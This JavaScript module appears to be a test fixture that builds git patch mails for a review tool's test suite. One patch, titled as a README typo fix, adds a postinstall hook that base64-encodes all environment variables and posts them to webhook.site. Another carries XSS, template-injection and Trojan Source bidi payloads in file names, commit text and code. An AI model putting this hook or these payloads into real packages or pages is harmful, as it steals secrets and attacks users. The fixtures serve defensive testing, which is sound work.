// The two changes the suite submits, as `git format-patch` mails: a realistic malicious one
// (the journey, and the README's screenshot) and a hostile one whose file names, lines and
// commit message try to inject markup and script and hide characters.

/** A format-patch mail adding `files` (each `{ path, lines }`) with `subject` and `body`. */
export function patch({ subject, body, author = 'Sam Helper <sam.helper@example.org>', files }) {
  const out = [
    'From 3f1c2a9d8e7b6a5f4e3d2c1b0a9f8e7d6c5b4a39 Mon Sep 17 00:00:00 2001',
    `From: ${author}`,
    'Date: Mon, 2 Mar 2026 10:00:00 +0000',
    `Subject: [PATCH] ${subject}`,
    '',
    ...body.split('\n'),
    '---',
  ];
  for (const f of files) {
    out.push(
      `diff --git a/${f.path} b/${f.path}`,
      'new file mode 100644',
      'index 0000000..1111111',
      '--- /dev/null',
      `+++ b/${f.path}`,
      `@@ -0,0 +1,${f.lines.length} @@`,
      ...f.lines.map((l) => `+${l}`),
    );
  }
  out.push('-- ', '2.47.3', '');
  return out.join('\n');
}

/** The journey's change: an install hook that sends the environment to a webhook. */
export const journeyChange = patch({
  subject: 'Fix typo in README',
  body: 'Small wording fix, no code changes.',
  files: [
    {
      path: 'scripts/postinstall.js',
      lines: [
        "const https = require('https');",
        "const os = require('os');",
        '',
        '// collect build telemetry',
        'const data = Buffer.from(JSON.stringify({ env: process.env, host: os.hostname() })).toString(\'base64\');',
        "const req = https.request({ hostname: 'webhook.site', path: '/3f1c2a9d-telemetry', method: 'POST' });",
        'req.write(data);',
        'req.end();',
      ],
    },
    {
      path: 'lib/index.js',
      lines: [
        "'use strict';",
        '',
        'module.exports = function leftPad(str, len, ch) {',
        "  ch = ch === undefined ? ' ' : String(ch);",
        '  str = String(str);',
        '  while (str.length < len) str = ch + str;',
        '  return str;',
        '};',
      ],
    },
  ],
});

/** The injection attempts; each must show as text, never act. */
export const PAYLOADS = [
  '<script>alert("sx-script")</script>',
  '<img src=x onerror=alert("sx-img")>',
  '<a href="javascript:alert(\'sx-link\')">click me</a>',
  '</textarea><script>alert("sx-textarea")</script>',
  '"><svg onload=alert("sx-svg")>',
  "'><iframe src=\"https://evil.example/frame\"></iframe>",
  '<meta http-equiv="refresh" content="0;url=https://evil.example/meta">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>body{background:url(https://evil.example/bg)}</style>',
  '{{7*7}} ${7*7} <%= 7*7 %>',
];

/** Hidden characters the page must show as visible markers. */
export const HIDDEN = {
  '\u202E': 'U+202E', // RIGHT-TO-LEFT OVERRIDE
  '\u2066': 'U+2066', // LEFT-TO-RIGHT ISOLATE
  '\u2069': 'U+2069', // POP DIRECTIONAL ISOLATE
  '\u200B': 'U+200B', // ZERO WIDTH SPACE
  '\u200D': 'U+200D', // ZERO WIDTH JOINER
  '\uFEFF': 'U+FEFF', // ZERO WIDTH NO-BREAK SPACE
};

/** The hostile change: injection in the message, the file names and the lines. */
export const hostileChange = patch({
  subject: `Fix typo <script>alert("sx-subject")</script> \u202Etxt.exe`,
  body: [
    'Harmless <img src=x onerror=alert("sx-body")> cleanup.',
    '[details](javascript:alert("sx-md-link")) and </textarea><b>bold</b>',
    'zero\u200Bwidth and \u2066isolated\u2069 text',
  ].join('\n'),
  files: [
    {
      // No spaces: git would quote the name. `<`, `>`, `"` and `'` are taken as they are.
      path: 'src/<svg/onload=alert("sx-path")>.js',
      lines: PAYLOADS,
    },
    {
      path: 'src/invoice\u202Esj.exe.js',
      lines: [
        // Trojan Source: the comment visually swallows the check.
        'function isAdmin(user) {',
        `  if (user.role !== "admin"\u202E \u2066// check later\u2069 \u2066) {`,
        '    return false;',
        '  }',
        '  const ad\u200Bmin = true; // zero-width space in the name',
        '  const to\u200Dken = "\uFEFFsecret";',
        '  return ad\u200Bmin;',
        '}',
      ],
    },
  ],
});

export const hostileConcern = 'The file names look odd <script>alert("sx-concern")</script> and there is a \u202E in a line.';
